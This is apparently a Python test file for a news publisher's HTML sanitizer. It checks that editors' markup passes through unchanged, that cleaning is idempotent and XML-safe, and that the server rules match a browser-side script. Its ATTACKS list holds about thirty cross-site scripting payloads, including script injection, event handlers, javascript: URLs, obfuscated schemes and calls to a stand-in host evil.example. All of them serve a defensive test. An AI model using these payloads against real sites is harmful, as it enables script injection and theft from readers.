"""The last word on what a reader's browser may be given."""

from __future__ import annotations

import re

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cms.text import markup
from publisher.documents import html
from testing.paths import ROOT

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<p onclick=alert(1) id=x class=y name=z>x</p>",
    "<audio src=x onerror=alert(1)><video poster=javascript:alert(1)>",
    "<live-blog src='//evil.example/latest.json'></live-blog>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src=x\x00 onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "</article></live-blog></main><script>alert(1)</script>",
]
RUNS = ("<script", "onerror", "onload", "onclick", "javascript:", "vbscript:", "data:text", "<svg", "<math", "<iframe")
CALLS = ("<style", "style=", "<link", "<base", "<meta", "<form", "<input", "<object", "<embed", "<live-blog", "<!--")
BREAKS = ("</article", "</main", "</live-blog", "id=", "class=", "name=")


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_runs_calls_home_or_breaks_out_is_taken_away(attack):
    found = html.clean(attack).lower()
    for part in RUNS + CALLS + BREAKS:
        assert part not in found, found


@pytest.mark.parametrize(
    "good",
    [
        "<p>It is <b>nine</b> &amp; <em>late</em>.</p>",
        '<a href="https://news.example/a?b=1&amp;c=2" rel="noopener nofollow">x</a>',
        '<img src="https://news.example/a.jpg" alt="A">',
        '<table><tbody><tr><th scope="col">A</th><td colspan="2">B</td></tr></tbody></table>',
        '<blockquote cite="https://news.example">x</blockquote>',
        '<p lang="ar" dir="rtl">النتائج</p>',
        '<ol start="3"><li>x</li></ol>',
    ],
)
def test_what_editors_need_stays_as_it_is(good):
    assert html.clean(good) == good


def test_a_link_away_tells_nobody_where_from():
    assert 'rel="noopener nofollow"' in html.clean('<a href="https://a.example" rel="opener">x</a>')


def test_the_list_is_the_one_that_editors_work_with():
    for name in ("TAGS", "ATTRIBUTES", "SCHEMES", "DROPPED_WITH_CONTENT", "EMBEDS"):
        assert getattr(html, name) == getattr(markup, name), name


def test_what_markup_took_is_given_as_it_is():
    taken = markup.clean("Two\n\nparagraphs & <b>bold</b>")
    assert html.clean(taken) == taken


@given(st.text())
def test_cleaning_again_changes_nothing(text):
    once = html.clean(text)
    assert html.clean(once) == once


@given(st.lists(st.sampled_from(["<p>", "</p>", "<b", ">", "&", "&lt;", "x", "<!--", "-->", '"', "<a href='", "\x0b"])))
def test_cleaning_pieces_of_markup_again_changes_nothing(pieces):
    once = html.clean("".join(pieces))
    assert html.clean(once) == once


@given(st.text())
def test_nothing_is_left_that_xml_cannot_carry(text):
    assert not html.NOT_IN_XML.search(html.clean(text))
    assert not html.NOT_IN_XML.search(html.plain(text))


def test_a_character_reference_cannot_bring_in_what_xml_cannot_carry():
    assert not html.NOT_IN_XML.search(html.clean("<p>&#x0b;&#xfffe;&#7;</p>"))


@pytest.mark.parametrize("reference", ["&#x0b;", "&#7;", "&#xfffe;", "&#127;"])
def test_a_character_that_is_taken_away_uncovers_no_address_that_runs(reference):
    assert "javascript:" not in html.clean(f'<a href="java{reference}script:alert(1)">x</a>')


def test_a_long_text_is_cleaned_like_a_short_one():
    long = "<p>" + "x" * html.CACHED_LENGTH + "</p><script>alert(1)</script>"
    assert html.clean(long) == long.removesuffix("<script>alert(1)</script>")


@pytest.mark.parametrize(("markup", "words"), orjson.loads((ROOT / "tests/static_site/words.json").read_bytes()))
def test_words_are_those_that_a_reader_s_page_makes(markup, words):
    assert html.words(markup) == words
    assert html.clean(markup) == markup


def test_the_reader_s_page_takes_away_nothing_that_was_published():
    """static_site/trust/fragment.js is the second lock; this is the first, and both have the same key."""
    script = (ROOT / "static_site/trust/fragment.js").read_text()
    unwanted = re.search(r'UNWANTED = "([^"]+)"', script)[1].split(",")
    attributes = re.compile(re.search(r"UNWANTED_ATTRIBUTES = /(.+)/i;", script)[1], re.IGNORECASE)
    kept = {name for names in [*html.ATTRIBUTES.values(), *html.EMBEDS.values()] for name in names}
    assert html.TAGS.isdisjoint(unwanted)
    assert html.DROPPED_WITH_CONTENT - {"title", "textarea"} <= set(unwanted)
    assert not [name for name in kept if attributes.search(name)]
    safe = re.compile(re.search(r"SAFE_URL = /(.+)/i;", script)[1], re.IGNORECASE)
    assert all(safe.match(f"{scheme}:x") for scheme in html.SCHEMES)
    assert not safe.match("javascript:x") and not safe.match("data:x")


@pytest.mark.parametrize(
    ("stored", "published"),
    [
        ("<section>Ward 1: 12</section><section>0 spoiled</section>", "<div>Ward 1: 12</div><div>0 spoiled</div>"),
        ("<td>12</td><td>0</td>", "<div>12</div><div>0</div>"),
        ("Dear <Name>, ?a=1&region=2", "Dear &lt;Name&gt;, ?a=1&amp;region=2"),
        ("<h1>Now</h1>" + "<div>" * 60 + "x", None),
    ],
)
def test_rows_that_no_form_saw_come_out_as_what_they_mean(stored, published):
    found = html.clean(stored)
    assert published is None or found == published
    assert found.count("<div>") <= 40
    assert html.clean(found) == found


def test_words_are_the_text_on_one_line():
    assert html.words("<p>Polls&nbsp;<b>close</b></p>\n<p>at 9 &amp; 10</p>") == "Polls close at 9 & 10"
